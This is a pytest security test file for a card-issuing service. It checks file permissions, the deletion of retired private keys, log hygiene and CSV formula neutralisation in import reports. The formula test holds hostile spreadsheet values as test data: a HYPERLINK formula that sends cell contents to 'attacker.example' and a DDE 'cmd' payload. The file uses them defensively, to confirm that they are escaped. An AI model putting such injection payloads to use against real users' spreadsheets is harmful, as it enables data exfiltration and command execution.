"""What the service leaves on disk and in its logs (issue 11, part 11): a private data
directory, retired keys' private files gone, no glyphs of names or URL secrets in the logs,
and import reports that a spreadsheet cannot run as formulas."""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import time
from pathlib import Path

import httpx
import pytest

from bench.archive import write_csv
from tests import factories
from tests.e2e.server import serve
from tests.harness import cli_env, onboard_cli
from tests.security.harness import Live


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _cli_env(data_dir: Path, database_url: str | None = None) -> dict[str, str]:
    extra = {"ONBOARD_DATABASE_URL": database_url} if database_url else {}
    return cli_env(ONBOARD_DATA_DIR=str(data_dir), **extra)


def _cli(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return onboard_cli(*args, env=env)


def test_the_data_directory_is_0700_and_every_file_in_it_0600(live: Live) -> None:
    with live.client() as client:  # a write, so that the WAL and its index exist
        r = client.post(
            "/api/v1/cards", json=factories.card_payload(), headers=live.actors["admin"]
        )
        assert r.status_code == 201
    db = live.data_dir / "onboard.db"
    for name in ("onboard.db", "onboard.db-wal", "onboard.db-shm"):
        assert (db.parent / name).exists(), name
    assert _mode(live.data_dir) == 0o700
    seen = []
    for dirpath, dirnames, filenames in os.walk(live.data_dir):
        for name in dirnames:
            assert _mode(Path(dirpath, name)) == 0o700, name
        for name in filenames:
            seen.append(name)
            assert _mode(Path(dirpath, name)) == 0o600, (name, oct(_mode(Path(dirpath, name))))
    assert "keys.json" in seen and any(n.endswith(".pem") for n in seen), seen


def test_an_older_installation_is_made_private_on_start(tmp_path: Path) -> None:
    data = tmp_path / "var"
    data.mkdir(mode=0o755)
    data.chmod(0o755)
    secret = data / "secret_key"
    secret.write_text("s" * 48 + "\n")
    secret.chmod(0o644)
    with serve(data) as server:
        assert httpx.get(server.url + "/readyz").status_code == 200
        assert _mode(data) == 0o700
        assert _mode(secret) == 0o600
        assert _mode(data / "onboard.db") == 0o600


def test_a_retired_keys_private_file_is_deleted(live: Live) -> None:
    env = _cli_env(live.data_dir, live.database_url)
    keys = live.data_dir / "proof-keys"
    old = json.loads((keys / "keys.json").read_text())
    (old_kid,) = [k for k, m in old.items() if m["state"] == "active"]
    rotated = _cli("keys", "rotate", env=env)
    assert rotated.returncode == 0, rotated.stderr
    new_kid = rotated.stdout.strip()
    assert (keys / f"{old_kid}.pem").exists()  # "previous": old proofs still verify
    retired = _cli("keys", "retire", old_kid, env=env)
    assert retired.returncode == 0, retired.stderr
    assert not (keys / f"{old_kid}.pem").exists()
    assert _mode(keys / f"{new_kid}.pem") == 0o600 and _mode(keys / "keys.json") == 0o600
    listed = _cli("keys", "list", env=env)
    assert f"{old_kid}\tretired" in listed.stdout and f"{new_kid}\tactive" in listed.stdout
    deadline = time.monotonic() + 15  # servers reload the key set within seconds
    while True:
        kids = {k["kid"] for k in httpx.get(live.url + "/.well-known/jwks.json").json()["keys"]}
        if old_kid not in kids or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    assert kids == {new_kid}


def test_printing_a_card_logs_no_glyphs_of_the_holders_name(tmp_path: Path) -> None:
    data = tmp_path / "data"
    # Even at DEBUG, fpdf and fontTools stay at WARNING: they log the glyphs they subset.
    env = {"ONBOARD_SECRET_KEY": factories.TOKEN_SECRET, "ONBOARD_LOG_LEVEL": "DEBUG"}
    with serve(data, extra_env=env) as server:
        from service.core.db import make_engine

        engine = make_engine(f"sqlite:///{data / 'onboard.db'}")
        actors = factories.make_actors(engine)
        engine.dispose()
        with httpx.Client(base_url=server.url, timeout=30) as http:
            body = factories.card_payload(**{"holder.surname": "Qwxzjv"})
            card = http.post("/api/v1/cards", json=body, headers=actors["admin"]).json()
            r = http.get(f"/api/v1/cards/{card['id']}/print", headers=actors["admin"])
            assert r.status_code == 200 and r.content.startswith(b"%PDF")
        time.sleep(0.5)
        log = server.log()
    loggers = {json.loads(line).get("logger") for line in log.splitlines() if line.startswith("{")}
    assert not {n for n in loggers if n and n.split(".")[0] in ("fpdf", "fontTools")}, loggers
    assert "Qwxzjv" not in log and "QWXZJV" not in log


@pytest.mark.parametrize(
    "archive_id",
    [
        '=HYPERLINK("http://attacker.example/?d="&B2,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
    ],
)
def test_import_reports_neutralise_formula_cells(
    tmp_path: Path, archive_id: str, db_url: str
) -> None:
    path = tmp_path / "archive.csv"
    write_csv(path, 2)
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    header = rows[0]
    rows[1][header.index("archive_id")] = archive_id
    rows[1][header.index("date_of_birth")] = "2999-01-01"  # a bad row, so it is reported
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    run = _cli("import", "cards", str(path), env=_cli_env(tmp_path / "data", db_url))
    assert run.returncode == 1, run.stderr
    with (tmp_path / "archive.report.csv").open(newline="", encoding="utf-8") as fh:
        report = list(csv.DictReader(fh))
    assert [r["archive_id"] for r in report] == ["'" + archive_id]
    assert report[0]["line"] == "2"  # numbers stay numbers
